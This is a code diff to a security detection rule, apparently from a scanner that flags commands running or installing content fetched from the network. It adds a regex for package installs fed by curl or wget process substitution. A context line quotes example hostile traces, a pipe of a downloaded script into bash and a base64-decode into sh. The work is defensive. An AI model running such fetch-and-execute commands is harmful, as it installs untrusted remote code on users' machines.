@@ -1,7 +1,7 @@
 import { arriving, isOutside } from '../chains.js'
 import { severityOfInstaller } from '../conclusions/installers.js'
 import type { Evidence } from '../evidence.js'
-import { readAddress } from '../facts/address.js'
+import { findAddresses, readAddress } from '../facts/address.js'
 import type { Flow } from '../flow/flow.js'
 import type { Observation, Rule } from '../rule.js'
 
@@ -28,7 +28,10 @@ export const rule: Rule = {
       'Typical traces in the history: `curl http://192.0.2.7/x.sh | bash`, `base64 -d | sh`.\n',
     ],
   },
-  find: (evidence) => evidence.flows.flatMap((flow) => judge(flow, evidence)),
+  find: (evidence) => [
+    ...evidence.flows.flatMap((flow) => judge(flow, evidence)),
+    ...evidence.segments.flatMap((segment) => judgeInstalled(segment, evidence)),
+  ],
 }
 
 function judge(flow: Flow, evidence: Evidence): readonly Observation[] {
@@ -42,6 +45,19 @@ function judge(flow: Flow, evidence: Evidence): readonly Observation[] {
   const severity = severityOfInstaller(address, evidence)
   const message = `Runs the response from ${host} immediately (${flow.via})`
   return [{ segment: flow.segment, at: flow.at, confidence: 'high', severity, message }]
+}
+
+const INSTALLED =
+  /\b(?:dpkg -i|rpm -[iU]\w{0,4}|installer -pkg|apt(?:-get)? install|pip3? install|npm (?:i|install))\b[^\n]{0,40}<\(\s{0,2}(?:curl|wget)\b[^\n)]{0,200}/
+
+/** A package that is installed while it is downloaded. */
+function judgeInstalled(segment: Evidence['segments'][number], evidence: Evidence): readonly Observation[] {
+  if (segment.kind === 'paragraph' || segment.kind === 'heading' || !segment.text.includes('<(')) return []
+  const match = INSTALLED.exec(segment.text)
+  const address = match === null ? undefined : findAddresses(match[0])[0]
+  if (match === null || address === undefined || !isOutside(address)) return []
+  const severity = severityOfInstaller(address, evidence)
+  return [{ segment, at: match.index, severity, message: `Installs the response from ${address.host} immediately` }]
 }
 
 function isShellSink({ via }: Flow): boolean {
